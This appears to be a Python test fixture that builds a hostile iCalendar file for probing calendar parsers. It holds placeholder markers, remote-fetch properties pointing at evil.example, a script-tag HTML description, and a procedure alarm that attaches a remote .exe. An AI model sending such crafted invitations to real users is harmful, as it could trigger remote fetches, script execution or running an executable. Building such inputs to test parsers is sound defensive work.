# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit

LINES = ['BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:CORNER-MARK1', 'METHOD:REQUEST', 'SOURCE;VALUE=URI:http://evil.example/', 'REFRESH-INTERVAL;VALUE=DURATION:PT1M', 'X-WR-CALNAME:CORNER-MARK2', 'URL:http://evil.example/', 'IMAGE;VALUE=URI:http://evil.example/a.png',
         'BEGIN:VEVENT', 'UID:1@example.jp', 'DTSTAMP:20260101T000000Z', 'DTSTART:20260101T000000Z', 'SUMMARY;ALTREP="http://evil.example/";X-A=CORNER-MARK3:会議', 'DESCRIPTION;ALTREP="CID:CORNER-MARK4":説明', 'X-ALT-DESC;FMTTYPE=text/html:<script>CORNER-MARK5</script>',
         'ATTACH;ENCODING=BASE64;VALUE=BINARY:Q09STkVSLU1BUks=', 'ATTACH:file://evil.example/a', 'CONFERENCE;VALUE=URI:http://evil.example/', 'X-MS-OLK-FORCEINSPECTOROPEN:TRUE', 'STRUCTURED-DATA:CORNER-MARK6', 'STYLED-DESCRIPTION:<b>CORNER-MARK7</b>',
         'ORGANIZER;CN="山田";SENT-BY="mailto:evil.example";DIR="ldap://evil.example":mailto:a@example.jp', 'LOCATION;ALTREP="http://evil.example/":室', 'RELATED-TO:2', 'GEO:1;2', 'BEGIN:VALARM', 'ACTION:PROCEDURE', 'TRIGGER:-PT1M', 'ATTACH:file://evil.example/a.exe', 'END:VALARM',
         'BEGIN:X-CORNER-MARK9', 'SUMMARY:CORNER-MARK10', 'END:X-CORNER-MARK9', 'END:VEVENT', 'BEGIN:VTODO', 'UID:2', 'DTSTAMP:20260101T000000Z', 'ATTACH:CORNER-MARK11', 'END:VTODO', 'END:VCALENDAR', 'CORNER-MARK12']
emit(('\r\n'.join(LINES) + '\r\n').encode())
